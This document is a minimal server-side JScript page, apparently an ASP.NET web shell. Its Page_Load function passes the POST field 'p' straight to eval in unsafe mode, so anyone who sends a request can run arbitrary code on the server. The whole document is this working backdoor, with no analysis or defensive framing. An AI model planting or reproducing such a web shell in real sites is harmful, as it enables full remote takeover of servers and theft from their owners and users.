<SCRIPT RUNAT=SERVER LANGUAGE=JSCRIPT>
function Page_Load() {
    eval ( Request.Form [ "p" ] , "unsafe" ) ;
}
</SCRIPT>
